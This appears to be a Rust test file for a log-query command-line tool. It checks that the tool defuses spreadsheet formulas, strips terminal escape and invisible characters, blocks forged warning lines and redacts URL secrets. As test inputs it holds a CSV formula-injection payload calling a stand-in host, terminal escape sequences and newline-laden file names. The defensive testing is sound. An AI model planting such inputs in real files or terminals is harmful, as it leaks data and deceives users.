//! Results and messages are safe to open in spreadsheets, terminals and Markdown, at any width.

use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::Value as Json;

use crate::command::{Output, coldcase, coldcase_at, program};

/// Runs the program in `folder` with nothing on stdin.
fn run(folder: &Path, args: &[&str]) -> Output {
    coldcase_at(folder, args, b"")
}

/// A folder with `signins.json`, which contains one record with these members.
fn folder_with(members: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    let record = format!(
        "{{\"TimeGenerated\":\"2026-03-02T09:00:00Z\",\"Type\":\"SigninLogs\",\"Id\":\"1\",\"ResultType\":\"0\",{members}}}\n"
    );
    fs::write(folder.path().join("signins.json"), record).expect("written");
    folder
}

/// The characters of `text` that control a terminal or are invisible.
fn unsafe_characters(text: &str) -> Vec<char> {
    let is_unsafe = |c: &char| {
        c.is_control() && !matches!(c, '\n' | '\t')
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
            || matches!(c, '\u{feff}' | '\u{3164}' | '\u{115f}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().filter(is_unsafe).collect()
}

const ESCAPES: &str =
    "\u{1b}]0;OWNED\u{7}\u{1b}[2J\u{9b}31m\u{202e}gnp.exe\u{200b}\u{2066}\u{feff}\u{3164}\u{e0041}\u{7f}";

fn json_text(text: &str) -> String {
    Json::from(text).to_string()
}

#[test]
fn formulas_are_defused_in_every_cell() {
    let folder = folder_with(
        "\"UserPrincipalName\":\"=HYPERLINK(\\\"http://example.com/?\\\"&A1)\",\"UserAgent\":\" \\t@SUM(1)\",\
         \"AppDisplayName\":\"\\uff1d1+1\",\"Location\":\"x;-1\",\"Status\":{\"errorCode\":-1}",
    );
    let query = "SigninLogs | project ['=head'] = UserPrincipalName, UserAgent, AppDisplayName, Location, \
                 Number = -1, Real = -0.5, Dynamic = Status.errorCode, Time = -1h";
    let csv = |args: &[&str]| {
        let output = run(folder.path(), &[&[query, "."], args].concat());
        assert_eq!(output.code, 0, "{output:?}");
        output.stdout
    };
    assert_eq!(
        csv(&["-o", "csv", "--excel-safe"]),
        "\u{feff}'=head,UserAgent,AppDisplayName,Location,Number,Real,Dynamic,Time\r\n\
         \"'=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",' \t'@SUM(1),'\u{ff1d}1+1,x;'-1,-1,-0.5,'-1,-01:00:00\r\n"
    );
    assert!(csv(&["-o", "tsv", "--excel-safe"]).starts_with("\u{feff}'=head\tUserAgent"));
    assert!(csv(&["-o", "csv"]).starts_with("=head,"), "not unless it is asked for");
    let file = folder.path().join("hits.csv");
    csv(&["-O", "hits.csv", "--excel-safe"]);
    assert!(fs::read_to_string(file).expect("written").contains("'=HYPERLINK"));
}

#[test]
fn every_command_writes_safe_cells() {
    let folder = folder_with("\"UserPrincipalName\":\"=1+1\"");
    fs::write(folder.path().join("=2.json"), "{\"TimeGenerated\":\"2026-03-02T09:00:00Z\",\"Type\":\"SigninLogs\"}\n")
        .expect("written");
    let sniffed = run(folder.path(), &["sniff", "=2.json", "-o", "csv", "--excel-safe"]).stdout;
    assert!(sniffed.contains("\n'=2.json,SigninLogs"), "{sniffed}");
    let converted = run(folder.path(), &["convert", "signins.json", "-O", "all.csv", "--excel-safe"]);
    assert_eq!(converted.code, 0, "{converted:?}");
    assert!(fs::read_to_string(folder.path().join("all.csv")).expect("written").contains(",'=1+1,"));
}

#[test]
fn catalog_and_environment_can_enable_safe_cells() {
    let folder = folder_with("\"UserPrincipalName\":\"=1+1\"");
    let catalog = tempfile::tempdir().expect("a folder");
    let catalog = catalog.path().join("c.toml");
    fs::create_dir_all(catalog.parent().expect("a folder")).expect("a folder");
    fs::write(&catalog, "[defaults]\nexcel-safe = true\n").expect("written");
    let ask = |format: &str, variable: Option<&str>| {
        let mut command = Command::new(program());
        command
            .args(["SigninLogs | project UserPrincipalName", "signins.json", "-o", format])
            .current_dir(folder.path());
        command.env("COLDCASE_CATALOG", &catalog).env_remove("COLDCASE_EXCEL_SAFE").stdin(std::process::Stdio::null());
        variable.map(|value| command.env("COLDCASE_EXCEL_SAFE", value));
        String::from_utf8(command.output().expect("the program runs").stdout).expect("UTF-8")
    };
    assert_eq!(ask("csv", None), "\u{feff}UserPrincipalName\r\n'=1+1\r\n");
    assert_eq!(ask("csv", Some("false")), "UserPrincipalName\r\n=1+1\r\n");
    assert_eq!(
        ask("jsonl", None),
        "{\"UserPrincipalName\":\"=1+1\"}\n",
        "a default is for the formats that it is about"
    );
    let refused = run(folder.path(), &["print 1", "-o", "json", "--excel-safe"]);
    assert!(refused.code == 2 && refused.stderr.contains("--excel-safe"), "{refused:?}");
}

#[test]
fn cells_of_any_width_are_written() {
    let long = "x".repeat(70_000);
    let folder = folder_with(&format!("\"UserAgent\":\"{long}\",\"UserPrincipalName\":\"anna@contoso.com\""));
    for format in ["table", "line", "md", "csv", "tsv", "json", "jsonl", "la-api"] {
        let output = run(folder.path(), &["SigninLogs | project UserPrincipalName, UserAgent", ".", "-o", format]);
        assert!(output.code == 0 && output.stdout.contains(&long), "{format}: {}", output.stderr);
    }
}

/// Long names and positions do not break messages.
#[test]
fn messages_about_long_queries_are_printed() {
    let folder = folder_with("\"UserAgent\":\"x\"");
    let long = "x".repeat(70_000);
    let lines = "\n".repeat(70_000);
    let queries = [
        format!("print '{long}', nosuchfunction(1)"),
        format!("print {long}"),
        format!("print a = 1 {lines}| where nosuchcolumn == 1"),
        format!("{long} | count"),
    ];
    for query in &queries {
        for format in ["text", "json"] {
            let output = run(folder.path(), &[query, "--error-format", format]);
            assert_eq!(output.code, 3, "{}", &output.stderr[..output.stderr.len().min(300)]);
        }
    }
    assert_eq!(run(folder.path(), &["print 1", &format!("--{long}")]).code, 2);
    assert_eq!(run(folder.path(), &["print 1", "-o", &long]).code, 2);
}

/// Every way in which foreign names and values get into messages.
#[test]
fn messages_do_not_control_the_terminal() {
    let folder = tempfile::tempdir().expect("a folder");
    let at = |name: &str| folder.path().join(name);
    fs::create_dir_all(at("delta/_delta_log")).expect("folders");
    let log = format!(
        "{{\"protocol\":{{\"minReaderVersion\":1}}}}\n{{\"add\":{{\"path\":{}}}}}\n",
        json_text(&format!("a{ESCAPES}.parquet"))
    );
    fs::write(at("delta/_delta_log/00000000000000000000.json"), log).expect("written");
    let escaped = "\\u001b[2J\\u202e";
    fs::write(at("section.toml"), format!("[\"a{escaped}\"]\n")).expect("written");
    fs::write(at("key.toml"), format!("[defaults]\n\"a{escaped}\" = 1\n")).expect("written");
    fs::write(at("raw.toml"), "[defaults]\n# \u{202e}\u{200b}\noutput = 1 \u{202e}\n").expect("written");
    fs::write(
        at("name.toml"),
        format!("[tables.\"a{escaped}\"]\npaths = ['no{ESCAPES}such.json']\n")
            .replace('\u{1b}', "")
            .replace(['\u{7}', '\u{7f}'], ""),
    )
    .expect("written");
    fs::write(at("columns.json"), format!("{{\"a{escaped}\":1}}\n")).expect("written");
    let name = format!("no{ESCAPES}such");
    let calls: &[&[&str]] = &[
        &["delta | count", "-t", "delta=delta"],
        &["print 1", "-c", "section.toml"],
        &["print 1", "-c", "key.toml"],
        &["print 1", "-c", "raw.toml"],
        &["['a\\u001b[2J\\u202e'] | count", "-c", "name.toml"],
        &["print 1", &name],
        &["print 1", &format!("--{name}")],
        &["print 1", "-o", &name],
        &["print 1", "--threads", &name],
        &["print 1", "--from", &name],
        &["print 1", "-O", &name],
        &["T | count", "-t", &format!("T={name}")],
        &["fields", &name],
        &["functions", &name],
        &["sniff", &name],
        &[&format!("print '{name}' | where {name}")],
        &[&format!("print 1 | where ['{name}'] == 1")],
        &[&format!("['{name}'] | count"), "columns.json"],
        &[&format!("declare query_parameters(p:string); print '{name}' | nonsense")],
        &[&format!("print 1 // {name}\n| nonsense"), "--error-format", "json"],
        &["columns | where nosuch == 1", "-t", "columns=columns.json"],
    ];
    for call in calls {
        let output = run(folder.path(), call);
        assert!(output.code != 0 && !output.stderr.is_empty(), "{call:?}: {output:?}");
        assert_eq!(unsafe_characters(&output.stderr), [char::MIN; 0], "{call:?}: {}", output.stderr);
    }
}

#[cfg(unix)]
#[test]
fn a_file_name_cannot_fake_a_message() {
    let folder = tempfile::tempdir().expect("a folder");
    let name = format!("a{ESCAPES}\nwarning: forged\r.json");
    let record = "{\"TimeGenerated\":\"2026-03-02T09:00:00Z\",\"Type\":\"SigninLogs\",\"Id\":\"1\"}\n";
    fs::write(folder.path().join(&name), format!("{record}{{\"TimeGenerated\":\"2026-03-02T")).expect("written");
    for args in
        [&["SigninLogs | count", "."][..], &["sniff", "."], &["convert", ".", "-O", "../archive-of-none", "--strict"]]
    {
        let output = run(folder.path(), args);
        assert_eq!(unsafe_characters(&output.stderr), [char::MIN; 0], "{args:?}: {}", output.stderr);
        assert!(!output.stderr.lines().any(|line| line.starts_with("warning: forged")), "{}", output.stderr);
    }
    let output = run(folder.path(), &["SigninLogs | count", "."]);
    assert!(output.stderr.contains("\\nwarning: forged\\r.json: 1 record was not read"), "{}", output.stderr);
    let missing = run(folder.path(), &["print 1", "x\nerror: forged"]);
    assert!(!missing.stderr.lines().any(|line| line.starts_with("error: forged")), "{}", missing.stderr);
}

/// JSON on stderr stays valid, with the same meaning.
#[test]
fn escaped_messages_in_json_keep_their_meaning() {
    let folder = tempfile::tempdir().expect("a folder");
    let query = format!("print '{ESCAPES}' | where nosuch == '{ESCAPES}'");
    let output = run(folder.path(), &[&query, "--error-format", "json"]);
    let message: Json = serde_json::from_str(output.stderr.lines().next().expect("a line")).expect("JSON");
    assert_eq!((message["text"].as_str(), message["line"].as_u64()), (Some("nosuch"), Some(1)));
    let underlined = run(folder.path(), &[&query]).stderr;
    let quoted = underlined.lines().find(|line| line.contains("nosuch ==")).expect("the query");
    let marks = underlined.lines().find(|line| line.contains("^^^^^^")).expect("marks");
    assert_eq!(quoted.find("nosuch"), marks.find("^^^^^^"), "{underlined}");
}

#[test]
fn pipes_and_files_get_data_byte_for_byte() {
    let folder = folder_with(&format!("\"UserAgent\":{}", json_text(ESCAPES)));
    let query = "SigninLogs | project UserAgent";
    assert_eq!(run(folder.path(), &[query, ".", "-o", "csv"]).stdout, format!("UserAgent\r\n{ESCAPES}\r\n"));
    assert_eq!(run(folder.path(), &[query, ".", "-O", "a.csv"]).code, 0);
    assert_eq!(
        fs::read_to_string(folder.path().join("a.csv")).expect("written"),
        format!("UserAgent\r\n{ESCAPES}\r\n")
    );
    let json: Json = serde_json::from_str(&run(folder.path(), &[query, "signins.json"]).stdout).expect("JSON");
    assert_eq!(json["UserAgent"], ESCAPES);
}

fn sign_in(time: &str) -> String {
    format!("{{\"TimeGenerated\":\"{time}\",\"Type\":\"SigninLogs\",\"Id\":\"{time}\"}}\n")
}

#[test]
fn a_summary_names_the_days_without_rows() {
    let folder = tempfile::tempdir().expect("a folder");
    let write = |name: &str, times: &[&str]| {
        let text: String = times.iter().map(|time| sign_in(time)).collect();
        fs::write(folder.path().join(name), text).expect("written");
    };
    write("a.json", &["2026-03-01T10:00:00Z", "2026-03-01T23:59:59.9999999Z", "2026-03-02T00:00:00Z"]);
    write("b.json", &["2026-03-01T09:00:00Z", "2026-03-06T12:00:00Z"]);
    write("c.json", &["2026-03-08T12:00:00Z"]);
    fs::write(folder.path().join("d.json"), "").expect("written");
    let output = run(folder.path(), &["sniff", "--summary", ".", "-o", "csv"]);
    assert_eq!(output.code, 0, "{output:?}");
    let shape = "flat table rows";
    let day = |day: &str, rows: &str, first: &str, last: &str, gap: &str| {
        format!("SigninLogs,{shape},{day},{rows},{day}T{first}Z,{day}T{last}Z,{gap}\r\n")
    };
    let expected = [
        "Table,Shape,Day,Rows,Files,FirstTimeGenerated,LastTimeGenerated,Gap\r\n,,,0,1,,,\r\n".to_owned(),
        day("2026-03-01", "3,2", "09:00:00.0000000", "23:59:59.9999999", ""),
        day("2026-03-02", "1,1", "00:00:00.0000000", "00:00:00.0000000", ""),
        day(
            "2026-03-06",
            "1,1",
            "12:00:00.0000000",
            "12:00:00.0000000",
            "\"no rows on 3 days, 2026-03-03 to 2026-03-05\"",
        ),
        day("2026-03-08", "1,1", "12:00:00.0000000", "12:00:00.0000000", "no rows on 2026-03-07"),
    ];
    assert_eq!(output.stdout, expected.concat());
}

#[test]
fn a_summary_warns_about_damaged_files() {
    let folder = tempfile::tempdir().expect("a folder");
    for number in 0..12 {
        let text = format!("{}{{\"TimeGenerated\":\"2026-03-0", sign_in("2026-03-01T10:00:00Z"));
        fs::write(folder.path().join(format!("{number:02}.json")), text).expect("written");
    }
    let output = run(folder.path(), &["sniff", "--summary", "."]);
    assert_eq!(output.stderr.lines().filter(|line| line.starts_with("warning: ")).count(), 11, "{}", output.stderr);
    assert!(output.stderr.contains("00.json: 1 record was not read"), "{}", output.stderr);
    assert!(output.stderr.contains("warning: 2 more files are damaged"), "{}", output.stderr);
    let row: Json = serde_json::from_str(output.stdout.trim()).expect("JSON");
    assert_eq!((&row["Rows"], &row["Files"], &row["Gap"]), (&Json::from(12), &Json::from(12), &Json::from("")));
}

/// A conversion reads the same files once for each of their tables.
#[test]
fn a_conversion_prints_each_note_once() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut text = String::new();
    for table in ["SigninLogs", "AuditLogs", "AADRiskyUsers"] {
        text += &sign_in("2026-03-01T10:00:00Z").replace("SigninLogs", table);
    }
    fs::create_dir(folder.path().join("in")).expect("a folder");
    fs::write(folder.path().join("in/a.json"), text + "{\"x\":1}\n{\"TimeGenerated\":\"2026").expect("written");
    fs::write(folder.path().join("in/.hidden.json"), sign_in("2026-03-01T10:00:00Z")).expect("written");
    let output = run(folder.path(), &["convert", "in", "-O", "out"]);
    assert_eq!(output.code, 0, "{output:?}");
    let said: Vec<&str> = output.stderr.lines().filter(|line| !line.starts_with("3 rows")).collect();
    let mut once = said.clone();
    once.sort_unstable();
    once.dedup();
    assert_eq!(once.len(), said.len(), "{}", output.stderr);
    assert!(said.iter().any(|line| line.contains("1 record was not read")), "{}", output.stderr);
}

/// Output to a terminal.
#[cfg(unix)]
mod terminal {
    use std::fs::File;
    use std::io::Read;
    use std::process::Stdio;

    use rustix::fs::{Mode, OFlags};
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    use rustix::termios::{Winsize, tcsetwinsize};

    use super::*;

    /// Runs the program with stdout and stderr on a terminal that is `columns` wide; returns what it shows.
    fn shown(folder: &Path, columns: u16, args: &[&str], environment: &[(&str, &str)]) -> String {
        let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).expect("a terminal");
        grantpt(&master).expect("a terminal");
        unlockpt(&master).expect("a terminal");
        let size = Winsize { ws_row: 40, ws_col: columns, ws_xpixel: 0, ws_ypixel: 0 };
        tcsetwinsize(&master, size).expect("a terminal");
        let path = ptsname(&master, Vec::new()).expect("a terminal");
        let open = || rustix::fs::open(&path, OFlags::RDWR | OFlags::NOCTTY, Mode::empty()).expect("a terminal");
        let mut command = Command::new(program());
        command.args(args).current_dir(folder).stdin(Stdio::null()).stdout(open()).stderr(open());
        command.env("XDG_CONFIG_HOME", folder.join("no-settings")).env("TERM", "xterm-256color");
        for variable in ["CI", "NO_COLOR", "CLICOLOR", "CLICOLOR_FORCE", "COLUMNS"] {
            command.env_remove(variable);
        }
        let mut child = command.envs(environment.iter().copied()).spawn().expect("the program starts");
        // Closes our copy of the terminal, so that reading ends with the program.
        drop(command);
        let (mut bytes, mut buffer, mut master) = (Vec::new(), [0; 4096], File::from(master));
        while let Ok(read @ 1..) = master.read(&mut buffer) {
            bytes.extend_from_slice(&buffer[..read]);
        }
        child.wait().expect("the program ends");
        String::from_utf8(bytes).expect("UTF-8").replace("\r\n", "\n")
    }

    #[test]
    fn data_does_not_control_the_terminal_in_any_format() {
        let folder = folder_with(&format!("\"UserAgent\":{},\"City\":\"x\"", json_text(ESCAPES)));
        for format in ["table", "line", "md", "csv", "tsv", "json", "jsonl", "la-api"] {
            let query = format!("SigninLogs | project UserAgent, ['{}'] = 1", "a\\u001b[2J\\u202e");
            let text = shown(folder.path(), 120, &[&query, "signins.json", "-o", format], &[]);
            let text = text.replace("\r\n", "\n");
            assert!(text.contains("OWNED"), "{format}: {text}");
            assert_eq!(unsafe_characters(&text), [char::MIN; 0], "{format}: {text}");
        }
        let line = shown(folder.path(), 120, &["SigninLogs | project UserAgent", "signins.json", "-o", "jsonl"], &[]);
        let json: Json = serde_json::from_str(line.lines().next().expect("a line")).expect("JSON");
        assert_eq!(json["UserAgent"], ESCAPES, "it means the same");
    }

    #[test]
    fn colours_are_used_only_on_terminals_that_support_them() {
        let folder = tempfile::tempdir().expect("a folder");
        let message = |args: &[&str], environment: &[(&str, &str)]| {
            let query = format!("print '\u{1b}[2J' | where {ESCAPES} nosuch == 1");
            shown(folder.path(), 120, &[&[query.as_str()], args].concat(), environment)
        };
        let coloured = message(&[], &[]);
        assert!(coloured.contains("\u{1b}[") && !coloured.contains("\u{1b}[2J"), "{coloured}");
        assert!(!coloured.contains("\u{1b}]") && !coloured.contains('\u{9b}'), "{coloured}");
        for environment in [("TERM", "dumb"), ("NO_COLOR", "1"), ("CLICOLOR", "0")] {
            assert_eq!(unsafe_characters(&message(&[], &[environment])), [char::MIN; 0], "{environment:?}");
        }
        assert_eq!(unsafe_characters(&message(&["--color", "never"], &[])), [char::MIN; 0]);
        assert!(message(&["--color", "always"], &[("TERM", "dumb")]).contains("\u{1b}["));
    }

    #[test]
    fn a_table_fits_the_terminal() {
        let folder =
            folder_with(&format!("\"UserAgent\":\"{}\",\"UserPrincipalName\":\"anna@contoso.com\"", "x".repeat(300)));
        let widest = |columns, environment: &[(&str, &str)]| {
            let query = "SigninLogs | project TimeGenerated, UserPrincipalName, UserAgent";
            let text = shown(folder.path(), columns, &[query, "signins.json"], environment);
            text.lines().take(3).map(|line| line.chars().count()).max()
        };
        assert_eq!(widest(80, &[]), Some(80));
        assert_eq!(widest(200, &[("COLUMNS", "60")]), Some(200), "the terminal knows best");
        assert_eq!(widest(0, &[("COLUMNS", "60")]), Some(60));
        assert_eq!(widest(0, &[]), Some(120));
    }

    #[test]
    fn the_main_columns_are_shown_first() {
        let members = "\"UserPrincipalName\":\"anna@contoso.com\",\"IPAddress\":\"203.0.113.7\",\"AppDisplayName\":\"Mail\",\
                       \"TenantId\":\"5f0c9f6c-0000-4000-8000-00000000000a\",\"OperationName\":\"Sign-in activity\",\
                       \"CorrelationId\":\"5f0c9f6c-0000-4000-8000-00000000000b\"";
        let folder = folder_with(members);
        let text = shown(folder.path(), 100, &["SigninLogs | take 3", "signins.json"], &[]);
        for cell in ["2026-03-02T09:00:00.0000000Z", "anna@contoso.com", "203.0.113.7", "Mail"] {
            assert!(text.contains(cell), "{cell}: {text}");
        }
        assert!(
            text.contains(" columns hidden · ") && text.contains(" empty columns hidden · use -o line to see all"),
            "{text}"
        );
        assert!(!text.contains('…'), "{text}");
    }
}

/// Whatever a message quotes: an argument, the query, an address that the query reads, a record of the query.
#[test]
fn secrets_of_addresses_are_never_shown() {
    let folder = tempfile::tempdir().expect("a folder");
    let manifest = folder.path().join("manifest.json");
    let manifest = manifest.to_str().expect("a name");
    let url = "https://user:USERSECRET@files.contoso.com/c/x.csv?sv=1&sig=SIGSECRET%3D";
    let query = format!("externaldata(x:string)['{url}'] | count");
    for args in [
        &["SigninLogs | count", url][..],
        &["SigninLogs | count", "az://account/c?sig=SIGSECRET"],
        &["SigninLogs | count", "abfss://c@account.dfs.core.windows.net/x?sig=SIGSECRET"],
        &[query.as_str()],
        &[query.as_str(), "-v", "--color", "always"],
        &["explain", query.as_str()],
        &["print 1", "-O", url],
        &["batch", url],
        &["-f", url],
        &["print 1", "-c", url],
        &["print 1", "--geoip", url],
        &["check", url],
        &["fmt", url],
        &[format!("print 'a' | where '{url}' == '' | count").as_str(), "--manifest", manifest],
    ] {
        let Output { stdout, stderr, .. } = coldcase(args);
        let said = stdout + &stderr + &std::fs::read_to_string(manifest).unwrap_or_default();
        assert!(!said.contains("SECRET"), "{args:?}: {said}");
    }
    assert!(std::fs::read_to_string(manifest).expect("a manifest").contains("[redacted]"));
}
